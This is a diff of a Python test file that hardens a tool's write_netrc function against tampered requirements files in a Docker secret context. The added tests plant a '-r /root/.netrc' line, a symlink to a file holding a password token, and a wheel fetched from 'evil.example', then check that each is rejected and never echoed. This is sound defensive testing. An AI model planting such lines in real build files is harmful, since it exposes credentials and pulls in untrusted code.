@@ -182,9 +182,19 @@ def test_write_netrc_reads_only_a_secret_mount_context_of_its_own(conns: None, t
         docker.write_netrc(mine, tmp_path / "n2")
     ctx = _secret_context(tmp_path, monkeypatch, [art("a")])
     reqs = ctx / docker.REQUIREMENTS
-    reqs.write_text(reqs.read_text() + "-r /root/.netrc\n")  # a line render never writes
-    with pytest.raises(UsageError, match="a line privpkg env dockerfile does not write"):
+    good = reqs.read_text()
+    reqs.write_text(good + "-r /root/.netrc\n")  # a line render never writes: named by number, never echoed
+    with pytest.raises(UsageError, match="line 2 is not one privpkg env dockerfile writes") as err:
         docker.write_netrc(ctx, tmp_path / "n3")
+    assert "/root" not in str(err.value)
+    reqs.unlink()
+    secret = tmp_path / "secret.txt"
+    secret.write_text(f"machine x login y password {PAT_B}\n")
+    reqs.symlink_to(secret)  # a planted symlink is not followed, so its target is never echoed
+    with pytest.raises(UsageError, match="cannot read") as err:
+        docker.write_netrc(ctx, tmp_path / "n3")
+    assert PAT_B not in str(err.value)
+    reqs.unlink()
     reqs.write_text(f"evil @ https://evil.example/x.whl --hash=sha256:{'a' * 64}\n")  # no connection answers it
     with pytest.raises(UsageError, match="no connection answers"):
         docker.write_netrc(ctx, tmp_path / "n4")
